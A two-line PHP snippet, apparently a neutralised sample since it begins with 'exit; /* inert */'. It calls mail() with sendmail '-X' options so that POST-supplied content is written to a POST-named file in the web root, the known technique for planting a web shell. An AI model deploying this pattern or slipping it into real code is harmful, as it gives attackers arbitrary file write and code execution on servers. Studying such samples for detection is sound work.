<?php exit; /* inert */ 
mail('a@example.invalid', 's', $_POST['b'], '', '-OQueueDirectory=/tmp -X' . $_SERVER['DOCUMENT_ROOT'] . '/' . $_POST['n']);
